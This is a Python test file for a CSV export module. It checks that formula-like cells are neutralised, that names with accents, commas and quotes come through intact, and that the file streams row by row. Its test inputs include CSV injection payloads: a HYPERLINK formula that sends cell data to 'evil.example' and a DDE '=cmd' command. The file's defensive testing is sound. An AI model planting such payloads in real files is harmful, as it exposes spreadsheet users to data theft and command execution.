"""A list as CSV opens in a spreadsheet as it is: names with accents, commas and quotes, and never a formula."""

import csv
from io import StringIO

import pytest

from registry import spreadsheet


def read(rows: list[list[object]]) -> list[list[str]]:
    text = "".join(spreadsheet.lines(rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1-952-555-0147", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(A1)",
        '=HYPERLINK("https://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert read([[cell]]) == [[f"'{cell}"]]


@pytest.mark.parametrize(
    "cell", ["Lena Fischer", "a=b", "O'Neil", "3-4", 'Says "hi"', "One, two", "Zoë Nguyễn", "two\nlines"]
)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert read([[cell, "next"]]) == [[cell, "next"]]


def test_nothing_and_numbers_are_cells_too() -> None:
    assert read([["Name", "Version"], [None, 2], ["", 0]]) == [["Name", "Version"], ["", "2"], ["", "0"]]


def test_the_file_is_sent_row_by_row_and_kept_by_nobody() -> None:
    asked = []

    def rows() -> object:
        for number in range(3):
            asked.append(number)
            yield [number]

    answer = spreadsheet.download("list.csv", rows())
    parts = iter(answer.streaming_content)
    assert (next(parts), asked) == ("\ufeff".encode(), [])
    assert (next(parts), asked) == (b"0\r\n", [0])
    assert answer["Content-Disposition"] == 'attachment; filename="list.csv"'
    assert (answer["Content-Type"], answer["Cache-Control"]) == ("text/csv; charset=utf-8", "no-store")
